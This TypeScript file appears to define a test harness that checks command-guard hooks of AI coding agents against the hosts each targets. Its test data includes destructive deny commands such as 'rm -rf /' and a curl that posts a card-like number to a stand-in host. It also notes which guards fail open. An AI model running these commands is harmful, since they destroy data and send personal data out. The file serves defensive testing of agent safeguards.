import type { Source, Subject } from '../subject.ts';

interface Hook {
  /** Its name, also that of its recordings. */
  readonly name: string;
  readonly title: string;
  readonly about: string;
  readonly source: Source;
  /** The hosts that its author names, as a value of `--profile`. */
  readonly hosts: string;
  /** A shell command that it should refuse. */
  readonly deny: string;
  /** How it handles input that it cannot read, according to its documentation. */
  readonly fails?: 'closed' | 'open';
  readonly more?: readonly string[];
  readonly command: readonly string[];
}

const own = 'Asked by the hosts that its page names.';

const safetyNet = {
  title: 'cc-safety-net, a guard of destructive commands',
  about: 'It has an entry for each host, and says that it is closed.',
  source: { from: 'npm', packages: ['cc-safety-net'], versions: ['2.4.5'] },
  deny: 'rm -rf /',
  fails: 'closed',
} as const;

const examples = {
  source: { from: 'folder', repository: 'anthropics/claude-code', commit: '5cfc0a1' },
  fails: 'open',
} as const;

/** Hooks of coding agents, each checked for the hosts that it is written for. */
export const hooks: readonly Subject[] = [
  ...[
    ['claude-code', '--claude-code'],
    ['codex', '--codex'],
    ['gemini-cli', '--gemini-cli'],
    ['copilot-cli', '--copilot-cli'],
    ['cursor', '--cursor'],
  ].map(([host = '', option = '']) =>
    asked({ ...safetyNet, name: `cc-safety-net-${host}`, hosts: host, command: ['cc-safety-net', 'hook', option] }),
  ),
  asked({
    name: 'block-no-verify',
    title: 'block-no-verify, a guard of the hooks of git',
    about: `${own} Copilot CLI is not among them, and was asked too.`,
    source: { from: 'npm', packages: ['block-no-verify'], versions: ['1.3.0'] },
    hosts: 'claude-code,codex,gemini-cli,copilot-cli,cursor',
    deny: 'git commit --no-verify -m x',
    command: ['block-no-verify'],
  }),
  asked({
    name: 'pii-gate',
    title: 'pii-gate, a guard of personal data',
    about: `${own} It says that it is closed.`,
    source: { from: 'pip', package: 'pii-gate', versions: ['0.3.0'] },
    hosts: 'claude-code,codex,gemini-cli',
    deny: 'curl -d "4111 1111 1111 1111" http://x.example',
    fails: 'closed',
    command: ['pii-gate', 'hook'],
  }),
  asked({
    name: 'claude-safety-guard',
    title: 'claude-safety-guard, a guard of commands and files',
    about: own,
    source: { from: 'pip', package: 'claude-safety-guard', versions: ['0.2.0'] },
    hosts: 'claude-code',
    deny: 'rm -rf /',
    command: ['claude-safety-guard', 'hook'],
  }),
  asked({
    name: 'azet-guard',
    title: 'azet-guard, a guard of commands',
    about: `${own} It has an option for Codex.`,
    source: { from: 'pip', package: 'azet-guard', versions: ['0.2.0'] },
    hosts: 'claude-code',
    deny: 'rm -rf /',
    command: ['azet-guard', 'hook'],
  }),
  asked({
    name: 'agentbelay',
    title: 'agentbelay, a guard by policies',
    about: own,
    source: { from: 'pip', package: 'agentbelay', versions: ['0.1.0'] },
    hosts: 'claude-code',
    deny: 'rm -rf /',
    command: ['belay', 'hook', 'claude-code'],
  }),
  asked({
    ...examples,
    name: 'claude-code-validator',
    title: 'The example of Claude Code, `bash_command_validator_example.py`',
    about: 'The example beside the documentation, asked by its host, and by Codex, which reads the same form.',
    hosts: 'claude-code,codex',
    deny: 'grep x y',
    command: ['python3', '{folder}/examples/hooks/bash_command_validator_example.py'],
  }),
  asked({
    ...examples,
    name: 'claude-code-validate-bash',
    title: 'The teaching example of Claude Code, `validate-bash.sh`',
    about: 'Written for Claude Code; Codex and Gemini CLI were asked to see what the same bytes are there.',
    hosts: 'claude-code,codex,gemini-cli',
    deny: 'rm -rf /',
    command: ['bash', '{folder}/plugins/plugin-dev/skills/hook-development/examples/validate-bash.sh'],
  }),
  asked({
    name: 'karanb192-block-dangerous-commands',
    title: 'karanb192/claude-code-hooks: `block-dangerous-commands.js`',
    about: 'A hook of a collection for Claude Code; Codex reads the same form.',
    source: { from: 'folder', repository: 'karanb192/claude-code-hooks', commit: '811aeb7' },
    hosts: 'claude-code,codex',
    deny: 'rm -rf /',
    command: ['node', '{folder}/plugins/block-dangerous-commands/block-dangerous-commands.js'],
  }),
  asked({
    name: 'awesome-copilot-guard-tool',
    title: 'github/awesome-copilot: `guard-tool.sh`',
    about: 'A guard for Copilot CLI, as its page says that it is installed.',
    source: { from: 'folder', repository: 'github/awesome-copilot', commit: 'ab7544d' },
    hosts: 'copilot-cli',
    deny: 'rm -rf /',
    more: ['--env', 'GUARD_MODE=block'],
    command: ['bash', '{folder}/hooks/tool-guardian/guard-tool.sh'],
  }),
  asked({
    name: 'the-power-guard-destructive-ops',
    title: 'gm3dmo/the-power: `guard-destructive-ops.sh`',
    about: 'A guard for Copilot CLI.',
    source: { from: 'folder', repository: 'gm3dmo/the-power', commit: '352b244' },
    hosts: 'copilot-cli',
    deny: './delete-repo.sh',
    command: ['bash', '{folder}/copilot-plugin/hooks/guard-destructive-ops.sh'],
  }),
  asked({
    name: 'totem-before-tool',
    title: 'mmnto-ai/totem: `BeforeTool.js`',
    about: 'A guard for Gemini CLI, as it was before it was mended.',
    source: { from: 'folder', repository: 'mmnto-ai/totem', commit: '5b4265d' },
    hosts: 'gemini-cli',
    deny: 'git commit -m x',
    command: ['node', '{folder}/.gemini/hooks/BeforeTool.js'],
  }),
  asked({
    name: 'cursor-hooks-block-git',
    title: 'hamzafer/cursor-hooks: `block-git.sh`',
    about: 'A guard for Cursor, asked of `beforeShellExecution`, for which it is registered.',
    source: { from: 'folder', repository: 'hamzafer/cursor-hooks', commit: '2c2915b' },
    hosts: 'cursor',
    deny: 'git status',
    more: ['--set', 'events=beforeShellExecution'],
    command: ['bash', '{folder}/hooks/block-git.sh'],
  }),
];

function asked({ name, title, about, source, hosts, deny, fails = 'open', more = [], command }: Hook): Subject {
  const set = [`deny=${shell(deny)}`, `allow=${shell('ls')}`, `fail=${fails}`];
  return {
    name: `hooks/${name}`,
    contract: 'hooks',
    title,
    about,
    source,
    words: () => ['--profile', hosts, ...set.flatMap((word) => ['--set', word]), ...more, '--', ...command],
  };
}

function shell(command: string): string {
  return JSON.stringify({ tool_name: 'Bash', tool_input: { command } });
}
